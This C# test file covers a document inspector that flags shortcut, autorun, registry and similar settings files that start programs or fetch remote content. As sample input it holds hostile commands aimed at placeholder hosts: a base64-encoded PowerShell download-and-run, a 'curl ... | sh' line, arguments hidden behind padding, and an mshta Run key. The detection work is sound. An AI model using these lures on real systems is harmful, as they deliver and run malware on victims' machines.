using System.Text;

namespace Bezel.Documents.Tests;

public class ShortcutTests
{
    private static DocumentInspection Inspect(byte[] content) => DocumentInspection.Inspect(null, null, content);
    private static DocumentInspection Inspect(string text) => Inspect(Encoding.UTF8.GetBytes(text));
    private static string[] Details(DocumentInspection seen, FactKind kind) => [.. seen.Facts.Where(fact => fact.Kind == kind).Select(fact => fact.Detail)];

    [Fact]
    public void Says_target_and_arguments_in_one_line()
    {
        DocumentInspection seen = Inspect(ShortcutSamples.Link(["C:\\", "Windows", "System32", "calc.exe"], arguments: "/x  1", machine: "shop-7", hotKey: 0x0641));
        seen.TrueType.ShouldBe(FileType.Shortcut);
        Details(seen, FactKind.StartsProgram).ShouldBe(["C:\\Windows\\System32\\calc.exe /x 1"]);
        seen.Has(FactKind.Obfuscated).ShouldBeFalse();
        seen.Text.ShouldContain("Made on\tshop-7");
        seen.Text.ShouldContain("Key\tCtrl+Alt+A");
        seen.Defects.ShouldBeEmpty();
    }

    [Fact]
    public void Leads_to_a_document_without_starting_anything()
    {
        DocumentInspection seen = Inspect(ShortcutSamples.Link(["C:\\", "Orders", "ring sizes.pdf"], local: "C:\\Orders\\ring sizes.pdf"));
        Details(seen, FactKind.OpensElsewhere).ShouldBe(["C:\\Orders\\ring sizes.pdf"]);
        seen.Has(FactKind.StartsProgram).ShouldBeFalse();
    }

    [Fact]
    public void Shows_arguments_that_are_pushed_out_of_sight()
    {
        DocumentInspection seen = Inspect(ShortcutSamples.Link(environment: "%windir%\\system32\\cmd.exe", arguments: new string(' ', 400) + "/c start http://get.example/a.js", icon: "C:\\Program Files\\Adobe\\AcroRd32.exe", show: 7));
        Details(seen, FactKind.StartsProgram).ShouldContain("%windir%\\system32\\cmd.exe /c start http://get.example/a.js");
        Details(seen, FactKind.FetchesFile).ShouldBe(["http://get.example/a.js"]);
        Details(seen, FactKind.Obfuscated).Length.ShouldBe(3);
        seen.Links.ShouldBe(["http://get.example/a.js"]);
    }

    [Theory]
    [InlineData("-e")]
    [InlineData("-enc")]
    [InlineData("-EncodedCommand")]
    [InlineData("/ec")]
    public void Decodes_a_command_in_base64(string option)
    {
        string hidden = Convert.ToBase64String(Encoding.Unicode.GetBytes("iwr https://get.example/p -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe"));
        DocumentInspection seen = Inspect(ShortcutSamples.Link(["C:\\", "Windows", "powershell.exe"], arguments: $"-w hidden {option} {hidden}"));
        Details(seen, FactKind.StartsProgram)[1].ShouldStartWith("PowerShell: iwr https://get.example/p");
        Details(seen, FactKind.FetchesFile)[0].ShouldContain("https://get.example/p");
        seen.Links.ShouldContain("https://get.example/p");
        Inspect(ShortcutSamples.Link(["C:\\", "Windows", "powershell.exe"], arguments: "-ep bypass -file C:\\tools\\stock.ps1")).Has(FactKind.Obfuscated).ShouldBeFalse();
    }

    [Fact]
    public void Names_a_share_of_another_computer()
    {
        DocumentInspection seen = Inspect(ShortcutSamples.Link(share: "\\\\files.example\\drop\\bill.exe"));
        Details(seen, FactKind.ExternalContent).ShouldBe(["\\\\files.example\\drop\\bill.exe"]);
        Details(seen, FactKind.StartsProgram).ShouldBe(["\\\\files.example\\drop\\bill.exe"]);
    }

    [Fact]
    public void Opens_what_stands_after_the_end()
    {
        DocumentInspection seen = Inspect(ShortcutSamples.Link(["C:\\", "Windows", "mshta.exe"], arguments: "bill.lnk", after: SampleFiles.Zip(("a.txt", "hello there"))));
        seen.Has(FactKind.EmbeddedFile).ShouldBeTrue();
        seen.Text.ShouldContain("hello there");
        seen.Entries[0].FileType.ShouldBe(FileType.Zip);
        Inspect(ShortcutSamples.Link(["C:\\", "a.txt"], after: new byte[64])).Has(FactKind.EmbeddedFile).ShouldBeFalse();
    }

    [Fact]
    public void Reads_every_shortcut_of_a_jump_list()
    {
        byte[] id = [1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
        byte[] list = [2, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0, 2, 0, 0, 0, .. id, .. ShortcutSamples.Link(["C:\\", "one.exe"]), .. id, .. ShortcutSamples.Link(["C:\\", "two.exe"]), 0xAB, 0xFB, 0xBF, 0xBA];
        DocumentInspection seen = Inspect(list);
        seen.TrueType.ShouldBe(FileType.Shortcut);
        Details(seen, FactKind.StartsProgram).ShouldBe(["C:\\one.exe", "C:\\two.exe"]);
    }

    [Fact]
    public void Reads_strings_of_one_byte()
    {
        Inspect(ShortcutSamples.Link(relative: ".\\caf\u00E9.exe", arguments: "\u00FCber", unicode: false)).Text.ShouldContain("Arguments\t\u00FCber");
    }

    [Theory]
    [InlineData("[InternetShortcut]\r\nURL=https://shop.example/a\r\n", FactKind.OpensElsewhere, "https://shop.example/a")]
    [InlineData("[InternetShortcut]\r\nURL=file://files.example/drop/bill.vbs\r\n", FactKind.ExternalContent, "file://files.example/drop/bill.vbs")]
    [InlineData("[InternetShortcut]\r\nURL=\\\\files.example@80\\drop\\bill.js\r\n", FactKind.StartsProgram, "\\\\files.example@80\\drop\\bill.js")]
    [InlineData("[InternetShortcut]\r\nURL=https://a.example\r\nIconFile=\\\\evil.example\\i.ico\r\n", FactKind.ExternalContent, "\\\\evil.example\\i.ico")]
    [InlineData("[Desktop Entry]\nType=Application\nName=Bill\nExec=sh -c 'curl http://x.example/a|sh'\n", FactKind.StartsProgram, "sh -c 'curl http://x.example/a|sh'")]
    [InlineData("[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.9\\i.ico\r\n", FactKind.ExternalContent, "\\\\10.0.0.9\\i.ico")]
    [InlineData("[.ShellClassInfo]\r\nIconResource=\\\\10.0.0.9\\i.ico\r\n", FactKind.ExternalContent, "\\\\10.0.0.9\\i.ico")]
    [InlineData("[autorun]\r\nopen=setup.exe /quiet\r\n", FactKind.StartsProgram, "setup.exe /quiet")]
    [InlineData("full address:s:rdp.example\r\nalternate shell:s:evil.exe\r\ndrivestoredirect:s:*\r\n", FactKind.OpensElsewhere, "remote desktop rdp.example, handing over drives")]
    [InlineData("WEB\r\n1\r\nhttps://cells.example/q.txt\r\n", FactKind.ExternalContent, "https://cells.example/q.txt")]
    [InlineData("<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", FactKind.StartsProgram, "%windir%\\system32\\cmd.exe /c calc")]
    [InlineData("<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\dav.example@SSL\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>", FactKind.ExternalContent, "\\\\dav.example@SSL\\share")]
    [InlineData("<?xml version=\"1.0\"?><jnlp codebase=\"http://apps.example/\" href=\"a.jnlp\"><application-desc main-class=\"M\"/></jnlp>", FactKind.StartsProgram, "Java Web Start http://apps.example/ a.jnlp M")]
    [InlineData("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"mshta http://a.example/x\"\r\n", FactKind.StartsProgram, "mshta http://a.example/x")]
    [InlineData("[Theme]\r\nDisplayName=Shop\r\n[boot]\r\nSCRNSAVE.EXE=\\\\files.example\\s.scr\r\n", FactKind.StartsProgram, "\\\\files.example\\s.scr")]
    [InlineData("[Version]\r\nSignature=\"$CHICAGO$\"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n[xRunPre]\r\nrundll32 a.dll,b\r\n", FactKind.StartsProgram, "rundll32 a.dll,b")]
    public void Reads_settings_that_open_or_start_something(string text, FactKind kind, string detail)
    {
        Details(Inspect(text), kind).ShouldContain(detail);
    }

    [Theory]
    [InlineData("[Settings]\r\nColour=blue\r\nPath=C:\\data\r\n")]
    [InlineData("Our address: 12 High Street\r\nFull address on the invoice.\r\n")]
    [InlineData("Version notes\r\n[Version] 2 came out in May.\r\n")]
    public void Leaves_ordinary_text_alone(string text)
    {
        DocumentInspection seen = Inspect(text);
        seen.TrueType.ShouldBe(FileType.PlainText);
        seen.Facts.ShouldBeEmpty();
    }

    [Fact]
    public void Bounds_counts_that_no_file_has()
    {
        byte[] link = ShortcutSamples.Link(["C:\\", "Windows", "a.exe"], local: "C:\\Windows\\a.exe", arguments: "x", environment: "%windir%\\a.exe");
        for (int i = 76; i < link.Length; i++)
        {
            byte[] wrong = [.. link];
            wrong[i] = 0xFF;
            if (i + 1 < wrong.Length)
                wrong[i + 1] = 0xFF;
            Inspect(wrong).Defects.Where(d => d.Kind == DocumentDefectKind.ReaderFailed).ShouldBeEmpty();
        }
        for (int part = 1; part < 64; part++)
            Inspect(link[..(link.Length * part / 64)]).Defects.Where(d => d.Kind == DocumentDefectKind.ReaderFailed).ShouldBeEmpty();
    }
}
